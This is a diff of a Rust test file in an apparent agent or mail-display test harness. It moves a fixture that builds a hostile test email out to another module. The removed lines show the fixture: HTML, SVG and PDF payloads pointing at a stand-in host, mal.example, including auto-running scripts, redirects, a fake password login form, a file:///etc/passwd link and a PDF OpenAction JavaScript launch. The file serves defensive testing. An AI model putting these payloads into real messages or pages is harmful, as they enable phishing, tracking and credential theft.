@@ -2,8 +2,8 @@
 //! pictures of a mail are shown within the page.
 
 use crate::lure::{Lured, lured};
+use crate::mail::letter;
 use borne_harness::agents::agent;
-use borne_harness::post::Letter;
 use borne_harness::report::attempt;
 use borne_harness::screen::{Frame, Region};
 use borne_harness::trap::Answer;
@@ -135,75 +135,6 @@ fn holds(path: &Path, text: &str) -> bool {
         let file = PathBuf::from(format!("/proc/{pid}/root")).join(path);
         fs::read(file).is_ok_and(|bytes| bytes.windows(text.len()).any(|window| window == text.as_bytes()))
     })
-}
-
-/// The letter of row 51 and of the attack mail.
-fn letter(subject: &str) -> Letter {
-    let html = "<h1>Cliquez ici</h1><script>fetch('https://mal.example/script')</script>
-        <meta http-equiv=refresh content='0;url=https://mal.example/refresh'><base href='https://mal.example/'>
-        <link rel=stylesheet href='https://mal.example/sheet.css'><style>@import 'https://mal.example/import.css'; body { background: url(https://mal.example/bg.png) }</style>
-        <img src='https://mal.example/pixel.png' onerror=\"location='https://mal.example/onerror'\"><img srcset='https://mal.example/set.png 2x'>
-        <iframe src='https://mal.example/frame'></iframe><iframe srcdoc=\"<script>top.location='https://mal.example/srcdoc'</script>\"></iframe>
-        <object data='https://mal.example/object'></object><embed src='https://mal.example/embed'><video src='https://mal.example/video' autoplay poster='https://mal.example/poster.png'></video>
-        <svg onload=\"location='https://mal.example/svg'\"><image href='https://mal.example/svg.png'/></svg>
-        <form action='https://mal.example/form' method=post><input name=motdepasse autofocus onfocus=\"location='https://mal.example/focus'\"><button>Connexion</button></form>
-        <a href='file:///etc/passwd'>fichier</a> <a href='javascript:location=\"https://mal.example/js\"'>script</a>
-        <p><a href='https://mal.example/lien' style='display:block;font-size:120px'>LIEN LIEN LIEN LIEN</a></p>";
-    let page = "<h1>pi\u{e8}ce</h1><script>fetch('https://mal.example/attached');location='https://mal.example/attached-location'</script><img src='https://mal.example/attached.png'>";
-    let svg = "<svg xmlns='http://www.w3.org/2000/svg' width='600' height='400'><rect width='600' height='400' fill='#00c000'/><script>location='https://mal.example/svg'</script><image href='https://mal.example/x.png'/></svg>";
-    Letter::new(subject, html)
-        .attach("page.html", "text/html", page.as_bytes())
-        .attach("image.svg", "image/svg+xml", svg.as_bytes())
-        .attach(
-            "lettre.docx",
-            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
-            b"PK\x03\x04lettre",
-        )
-        .attach("tableau.ods", "application/vnd.oasis.opendocument.spreadsheet", b"PK\x03\x04tableau")
-        .attach("archive.zip", "application/zip", b"PK\x03\x04archive")
-        .attach("message.eml", "message/rfc822", b"Subject: x\r\n\r\nhttps://mal.example/\r\n")
-        .attach("outil.exe", "application/x-msdownload", b"MZoutil")
-        .attach("papier.pdf", "application/pdf", &pdf())
-        .attach("image.png", "image/png", &png())
-}
-
-/// A page with a green square, a script that runs at its opening and a link as large as itself.
-fn pdf() -> Vec<u8> {
-    let drawing = "0 0.75 0 rg 0 0 600 800 re f";
-    let objects = [
-        "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('https://mal.example/pdf'\\);)>>>>"
-            .to_owned(),
-        "<</Type/Pages/Kids[3 0 R]/Count 1>>".to_owned(),
-        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Annots[5 0 R]>>".to_owned(),
-        format!("<</Length {}>>stream\n{drawing}\nendstream", drawing.len()),
-        "<</Type/Annot/Subtype/Link/Rect[0 0 600 800]/Border[0 0 0]/A<</S/URI/URI(https://mal.example/pdf-link)>>>>"
-            .to_owned(),
-    ];
-    let (mut text, mut places) = (String::from("%PDF-1.7\n"), Vec::new());
-    for (number, object) in (1..).zip(&objects) {
-        places.push(text.len());
-        text += &format!("{number} 0 obj{object}endobj\n");
-    }
-    let table = text.len();
-    let lines: String = places.iter().map(|place| format!("{place:010} 00000 n \n")).collect();
-    text +=
-        &format!("xref\n0 6\n0000000000 65535 f \n{lines}trailer<</Size 6/Root 1 0 R>>\nstartxref\n{table}\n%%EOF\n");
-    text.into_bytes()
-}
-
-/// A green picture.
-fn png() -> Vec<u8> {
-    let frame = Frame {
-        width: 500,
-        height: 400,
-        pixels: std::sync::Arc::new([0, 0xc0, 0, 0].repeat(500 * 400)),
-        at: std::time::Instant::now(),
-    };
-    let path = Path::new("/var/tmp/borne/green.png");
-    frame.save(path).expect("write a picture");
-    let bytes = fs::read(path).expect("read it");
-    fs::remove_file(path).expect("remove it");
-    bytes
 }
 
 fn green(seen: &Frame) -> Option<()> {
